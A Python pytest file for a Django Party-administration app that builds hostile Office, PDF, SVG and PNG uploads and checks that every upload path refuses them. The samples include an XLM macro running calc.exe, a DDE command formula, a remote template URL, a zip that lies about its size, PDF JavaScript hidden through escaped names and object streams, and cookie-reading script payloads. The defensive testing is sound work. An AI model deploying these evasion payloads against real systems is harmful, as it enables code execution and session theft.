"""Upload hostility corpus (SECURITY.md family; issue 10 item 11): 0 bad files accepted, 0 good
files refused, 0 orphan files — through every path that keeps an Office file or a PDF: minutes
attachments, publicity notice attachments and the roster import. One shared check
(dangjian.core.uploads.check_ooxml / check_pdf) decides; each path answers with its own code.

Downloads carry a server-made ASCII name, ``Content-Disposition: attachment`` (images excepted),
nosniff and a sandboxing CSP: an uploaded "签到表.html" is never served under its own name.
"""
from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from dangjian.core import uploads
from dangjian.members import roster_xlsx as rx
from dangjian.minutes import services as minutes_services
from dangjian.minutes.models import Attachment
from dangjian.publicity import services as publicity_services
from dangjian.publicity.models import Notice, NoticeAttachment
from tests.minutes.conftest import make_meeting

pytestmark = pytest.mark.django_db

CT_HEAD = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
XLSX_MAIN = '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
DOCX_MAIN = '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _zip(parts: dict[str, str | bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in parts.items():
            z.writestr(name, body)
    return buf.getvalue()


def good_xlsx() -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["姓名", "金额"])
    ws.append(["张三", 12.5])
    ws["C1"] = "=SUM(B2:B2)"  # an ordinary formula is not DDE
    ws["D1"] = "官网"
    ws["D1"].hyperlink = "https://www.12371.cn/"  # an external hyperlink is allowed
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def good_docx() -> bytes:
    return _zip({
        "[Content_Types].xml": CT_HEAD + DOCX_MAIN + "</Types>",
        "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                             "<w:body><w:p><w:r><w:t>发言稿 A|B</w:t></w:r></w:p></w:body></w:document>",
    })


def good_pdf() -> bytes:
    import weasyprint

    return weasyprint.HTML(string="<p>三会一课 签到表</p><a href='https://www.12371.cn/'>链接</a>").write_pdf()


def good_png() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (12, 8), (200, 0, 0)).save(buf, format="PNG")
    return buf.getvalue()


def xlsm_macro_sheet() -> bytes:
    """An Excel 4.0 (XLM) macro sheet: no vbaProject.bin, the macro lives in a macrosheet part."""
    return _zip({
        "[Content_Types].xml": CT_HEAD + XLSX_MAIN
        + '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
        "xl/workbook.xml": "<workbook/>",
        "xl/macrosheets/sheet1.xml": '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
                                     "<sheetData><row><c r=\"A1\"><f>EXEC(\"calc.exe\")</f></c></row></sheetData></xm:macrosheet>",
    })


def xlsx_ole_object() -> bytes:
    return _zip({
        "[Content_Types].xml": CT_HEAD + XLSX_MAIN + '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>',
        "xl/workbook.xml": "<workbook/>",
        "xl/worksheets/sheet1.xml": "<worksheet><sheetData/><oleObjects><oleObject progId=\"Package\" r:id=\"rId1\"/></oleObjects></worksheet>",
        "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64,
    })


def xlsx_dde_formula() -> bytes:
    return _zip({
        "[Content_Types].xml": CT_HEAD + XLSX_MAIN + "</Types>",
        "xl/workbook.xml": "<workbook/>",
        "xl/worksheets/sheet1.xml": "<worksheet><sheetData><row r=\"1\"><c r=\"A1\"><f>cmd|' /C calc'!A0</f></c></row>"
                                    "</sheetData></worksheet>",
    })


def docx_remote_template() -> bytes:
    return _zip({
        "[Content_Types].xml": CT_HEAD + DOCX_MAIN + "</Types>",
        "word/document.xml": "<w:document/>",
        "word/settings.xml": "<w:settings><w:attachedTemplate r:id=\"rId1\"/></w:settings>",
        "word/_rels/settings.xml.rels": f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId1" '
                                        f'Type="{OFFICE_REL}/attachedTemplate" Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>',
    })


def zip_lying_about_size(*, docx: bool = False) -> bytes:
    """A part that declares 100 bytes but inflates to 200 kB (local header and central directory
    both patched): a check that trusts the declared size would let it through."""
    big = "<worksheet>" + "A" * 200_000 + "</worksheet>"
    data = bytearray(_zip({
        "[Content_Types].xml": CT_HEAD + (DOCX_MAIN if docx else XLSX_MAIN) + "</Types>",
        ("word/document.xml" if docx else "xl/workbook.xml"): big,
    }))
    for sig, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        pos = 0
        while (pos := data.find(sig, pos)) != -1:
            size = struct.unpack_from("<I", data, pos + offset)[0]
            if size > 100_000:
                struct.pack_into("<I", data, pos + offset, 100)
            pos += 4
    return bytes(data)


PDF_HTML_POLYGLOT = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n"
PDF_JAVASCRIPT = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"

# (name, builder, core.uploads code)
OFFICE_CORPUS = [
    ("xlsm_macro_sheet", xlsm_macro_sheet, "macros"),
    ("xlsx_ole_object", xlsx_ole_object, "ole_object"),
    ("xlsx_dde_formula", xlsx_dde_formula, "dde"),
    ("zip_lying_about_size", zip_lying_about_size, "size_mismatch"),
]
DOCX_CORPUS = [
    ("docx_remote_template", docx_remote_template, "external_ref"),
    ("docm_vba_project", lambda: docm_vba(), "macros"),
    ("docx_lying_about_size", lambda: zip_lying_about_size(docx=True), "size_mismatch"),
]
# the same action with its name written in #xx escapes, and hidden in a compressed object stream
PDF_JAVASCRIPT_ESCAPED = PDF_JAVASCRIPT.replace(b"/S/JavaScript/JS", b"/S/J#61vaScript/J#53")
_HIDDEN = zlib.compress(b"2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj")
PDF_JAVASCRIPT_IN_OBJECT_STREAM = (b"%PDF-1.5\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n3 0 obj<</Type/ObjStm/N 1/First 0"
                                   b"/Filter/FlateDecode/Length " + str(len(_HIDDEN)).encode() + b">>stream\n" + _HIDDEN
                                   + b"\nendstream\nendobj\n%%EOF\n")
PDF_CORPUS = [
    ("pdf_html_polyglot", lambda: PDF_HTML_POLYGLOT, "polyglot"),
    ("pdf_javascript", lambda: PDF_JAVASCRIPT, "pdf_active"),
    ("pdf_javascript_escaped_name", lambda: PDF_JAVASCRIPT_ESCAPED, "pdf_active"),
    ("pdf_javascript_in_object_stream", lambda: PDF_JAVASCRIPT_IN_OBJECT_STREAM, "pdf_active"),
]


def docm_vba() -> bytes:
    """A Word document with a VBA project (a .docm renamed .docx)."""
    return _zip({
        "[Content_Types].xml": CT_HEAD + DOCX_MAIN + '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        "word/document.xml": "<w:document/>",
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64,
    })


def png_pixel_bomb() -> bytes:
    """48 megapixels in about 6 kB: refused from the header, before it is decoded."""
    buf = io.BytesIO()
    Image.new("1", (8000, 6000)).save(buf, format="PNG")
    return buf.getvalue()


SVG_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>'
# files every attachment path refuses before the office/PDF check: (name, file name, builder, code)
OTHER_CORPUS = [
    ("svg_script", "logo.svg", lambda: SVG_SCRIPT, "bad_type"),
    ("png_pixel_bomb", "现场.png", png_pixel_bomb, "too_big"),
]
ROSTER_CODES = {"macros": "macro", "ole_object": "ole_object", "dde": "dde", "size_mismatch": "bomb", "external_ref": "external_ref"}


def _files() -> set[str]:
    root = Path(settings.MEDIA_ROOT)
    return {str(p) for p in root.rglob("*") if p.is_file()} if root.exists() else set()


def _codes(exc: ValidationError) -> set[str]:
    return {e.code for e in exc.error_list} if not hasattr(exc, "error_dict") else {e.code for errs in exc.error_dict.values() for e in errs}


# ---- the shared check ---------------------------------------------------------------------------

@pytest.mark.parametrize("name,build,code", OFFICE_CORPUS + DOCX_CORPUS, ids=[c[0] for c in OFFICE_CORPUS + DOCX_CORPUS])
def test_shared_check_names_each_hostile_office_file(name, build, code):
    with pytest.raises(uploads.BadFile) as exc:
        uploads.check_ooxml(build(), max_entries=1000, max_uncompressed=50 * 1024 * 1024)
    assert exc.value.code == code


@pytest.mark.parametrize("name,build,code", PDF_CORPUS, ids=[c[0] for c in PDF_CORPUS])
def test_shared_check_names_each_hostile_pdf(name, build, code):
    with pytest.raises(uploads.BadFile) as exc:
        uploads.check_pdf(build())
    assert exc.value.code == code


def test_shared_check_accepts_the_good_files():
    assert "xl/workbook.xml" in uploads.check_ooxml(good_xlsx(), max_entries=1000, max_uncompressed=50 * 1024 * 1024)
    assert "word/document.xml" in uploads.check_ooxml(good_docx(), max_entries=1000, max_uncompressed=50 * 1024 * 1024)
    uploads.check_pdf(good_pdf())  # a real PDF with a link: no exception


# ---- minutes attachments ------------------------------------------------------------------------

@pytest.fixture
def record(world):
    meeting = make_meeting(world)
    return minutes_services.start_record(actor=world.users["secretary"], meeting=meeting)


def _attach(world, record, data, name):
    return minutes_services.add_attachment(actor=world.users["secretary"], record=record,
                                           upload=SimpleUploadedFile(name, data), kind="material", title="")


@pytest.mark.parametrize("name,build,code", OFFICE_CORPUS + DOCX_CORPUS + PDF_CORPUS,
                         ids=[c[0] for c in OFFICE_CORPUS + DOCX_CORPUS + PDF_CORPUS])
def test_minutes_refuse_hostile_files_and_keep_nothing(world, record, name, build, code):
    before = _files()
    ext = "pdf" if "pdf" in name else ("docx" if "docx" in name else "xlsx")
    with pytest.raises(ValidationError) as exc:
        _attach(world, record, build(), f"材料.{ext}")
    assert _codes(exc.value) == {code}
    assert not Attachment.objects.filter(record=record).exists()
    assert _files() == before  # 0 orphan files


def test_minutes_accept_the_good_files(world, record):
    for data, name, ctype in ((good_xlsx(), "报表.xlsx", "spreadsheetml"), (good_docx(), "发言稿.docx", "wordprocessingml"),
                              (good_pdf(), "签到表.pdf", "application/pdf"), (good_png(), "现场.png", "image/png")):
        att = _attach(world, record, data, name)
        assert ctype in att.content_type
    assert Attachment.objects.filter(record=record).count() == 4


def test_minutes_download_has_a_server_made_name(world, record, login):
    """The uploader's name ("签到表.html" for a PDF) is shown in the page, never used on download."""
    att = _attach(world, record, good_pdf(), "签到表.html")
    r = login(world.users["secretary"]).get(reverse("minutes-attachment", args=[att.pk]))
    assert r.status_code == 200
    assert r["Content-Disposition"] == f'attachment; filename="minutes-{record.pk}-{att.pk}.pdf"'
    assert r["X-Content-Type-Options"] == "nosniff"
    assert r["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert r["Content-Type"] == "application/pdf"
    photo = _attach(world, record, good_png(), "<script>.png")
    r = login(world.users["secretary"]).get(reverse("minutes-attachment", args=[photo.pk]))
    assert r["Content-Disposition"] == f'inline; filename="minutes-{record.pk}-{photo.pk}.png"'  # a re-encoded image


# ---- publicity notice attachments ---------------------------------------------------------------

def _notice(world, attachments):
    return publicity_services.create_notice(org=world.b1, board="party", title="附件公告", body="正文",
                                            actor=world.users["secretary"], attachments=attachments)


@pytest.mark.parametrize("name,build,code", OFFICE_CORPUS + PDF_CORPUS, ids=[c[0] for c in OFFICE_CORPUS + PDF_CORPUS])
def test_publicity_refuses_hostile_files_and_keeps_nothing(world, name, build, code):
    before = _files()
    ext = "pdf" if "pdf" in name else "xlsx"
    with pytest.raises(ValidationError) as exc:
        _notice(world, [("ok.pdf", good_pdf()), (f"报表.{ext}", build())])
    assert code in _codes(exc.value)
    assert not Notice.objects.exists() and not NoticeAttachment.objects.exists()
    assert _files() == before


def test_publicity_accepts_the_good_files(world):
    n = _notice(world, [("报表.xlsx", good_xlsx()), ("通知.pdf", good_pdf()), ("现场.png", good_png())])
    assert n.latest.attachments.count() == 3


def test_public_pdf_is_a_download_under_a_sandboxing_csp(world, client):
    n = _notice(world, [("通知<script>.pdf", good_pdf()), ("现场.png", good_png())])
    publicity_services.approve_notice(actor=world.users["secretary"], notice=n)
    pdf = n.latest.attachments.get(content_type="application/pdf")
    r = client.get(reverse("publicity-public-file", args=[pdf.pk]))
    assert r.status_code == 200
    assert r["Content-Disposition"] == f'attachment; filename="notice-{n.pk}-{pdf.pk}.pdf"'
    assert r["Content-Security-Policy"] == "default-src 'none'; sandbox" and r["X-Content-Type-Options"] == "nosniff"
    png = n.latest.attachments.get(content_type="image/png")
    assert client.get(reverse("publicity-public-file", args=[png.pk]))["Content-Disposition"].startswith("inline; ")


# ---- roster import ------------------------------------------------------------------------------

@pytest.mark.parametrize("name,build,code", OFFICE_CORPUS, ids=[c[0] for c in OFFICE_CORPUS])
def test_roster_import_refuses_the_same_files(tmp_path, name, build, code):
    p = tmp_path / "roster.xlsx"
    p.write_bytes(build())
    with pytest.raises(rx.BadRosterFile) as exc:
        rx.check_file(p, filename="roster.xlsx", size=os.path.getsize(p))
    assert exc.value.code == ROSTER_CODES[code]


@pytest.mark.parametrize("name,filename,build,code", OTHER_CORPUS, ids=[c[0] for c in OTHER_CORPUS])
def test_minutes_and_publicity_refuse_scripts_and_pixel_bombs(world, record, name, filename, build, code):
    before = _files()
    with pytest.raises(ValidationError) as exc:
        _attach(world, record, build(), filename)
    assert _codes(exc.value) == {code}
    with pytest.raises(ValidationError) as exc:
        _notice(world, [(filename, build())])
    assert _codes(exc.value) == {code}
    assert not Attachment.objects.exists() and not NoticeAttachment.objects.exists()
    assert _files() == before


@pytest.mark.parametrize("name,build,code", OFFICE_CORPUS, ids=[c[0] for c in OFFICE_CORPUS])
def test_roster_import_page_refuses_and_keeps_no_upload(world, login, settings, tmp_path, name, build, code):
    """Through the import page: the refused workbook (plaintext ID numbers) is not kept on disk."""
    settings.DANGJIAN_ROSTER_UPLOAD_DIR = str(tmp_path / "roster-uploads")
    r = login(world.users["secretary"]).post(reverse("member-roster-import"), {"file": SimpleUploadedFile(
        "名册.xlsx", build(), content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")})
    assert r.status_code == 200 and r.context["form"].has_error("file", ROSTER_CODES[code])
    assert not [p for p in (tmp_path / "roster-uploads").rglob("*") if p.is_file()]
